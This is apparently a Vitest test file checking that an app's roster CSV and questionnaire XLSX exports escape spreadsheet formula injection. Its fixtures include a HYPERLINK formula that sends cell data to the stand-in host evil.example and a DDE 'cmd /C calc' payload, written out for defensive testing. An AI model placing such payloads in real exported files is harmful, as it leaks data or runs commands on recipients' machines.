import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exportQuestionnaireXlsx } from "../../src/engines/questionnaire/export-questionnaire-xlsx.ts";
import { sampleQuestionnaire } from "../../src/engines/questionnaire/fixtures/sample-questionnaire.ts";
import { importQuestionnaireXlsx } from "../../src/engines/questionnaire/import-questionnaire-xlsx.ts";
import { parseQuestionnaire } from "../../src/engines/questionnaire/validate-questionnaire.ts";
import { exportRosterCsv, importRosterCsv } from "../../src/services/roster/roster-csv.ts";
import { proposeJoiner } from "../../src/services/roster-requests/propose-roster-change.ts";
import { approveRosterRequest } from "../../src/services/roster-requests/review-roster-request.ts";
import { contextFor, makeEngagement, makeUser } from "../support/fixtures.ts";
import { createTestRuntime, type TestRuntime } from "../support/test-runtime.ts";

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")';

describe("formula injection in spreadsheet exports", () => {
  let runtime: TestRuntime;
  beforeAll(async () => {
    runtime = await createTestRuntime();
  });
  afterAll(async () => runtime.close());

  it("exports an approved joiner named as a formula as text, and imports it back as the name", async () => {
    const { vendorId } = await makeEngagement(runtime);
    const vendor = contextFor(runtime, await makeUser(runtime, "vendor", { vendorId }));
    const security = contextFor(runtime, await makeUser(runtime, "security"));
    const request = await proposeJoiner(vendor, {
      fullName: FORMULA,
      roleTitle: "@SUM(1+1)",
      startDate: "2026-01-05",
    });
    await approveRosterRequest(security, request.id);

    const csv = await exportRosterCsv(security, vendorId);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0]?.full_name).toBe(`'${FORMULA}`);
    expect(rows[0]?.role).toBe("'@SUM(1+1)");
    expect(rows[0]?.start_date).toBe("2026-01-05");

    const other = await makeEngagement(runtime);
    const imported = await importRosterCsv(security, other.vendorId, csv, { commit: true });
    expect(imported.rows.map((r) => [r.fullName, r.errors])).toEqual([[FORMULA, []]]);
    expect(imported.committed).toBe(true);
  });

  it("writes question texts that start a formula as text cells in the XLSX export", async () => {
    const definition = parseQuestionnaire(sampleQuestionnaire());
    const first = definition.sections[0]?.questions[0];
    if (!first) throw new Error("the sample has a question");
    first.text = "=1+2 people?";
    first.help = "-cmd|' /C calc'!A0";
    const bytes = await exportQuestionnaireXlsx(definition);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as never);
    const values: string[] = [];
    for (const sheet of workbook.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === "string") values.push(cell.value);
        }),
      );
    expect(values).toContain("'=1+2 people?");
    expect(values).toContain("'-cmd|' /C calc'!A0");
    expect(values.filter((v) => /^[=+\-@\t\r]/.test(v) && !Number.isFinite(Number(v)))).toEqual([]);
    expect(await importQuestionnaireXlsx(bytes)).toEqual(definition);
  });
});
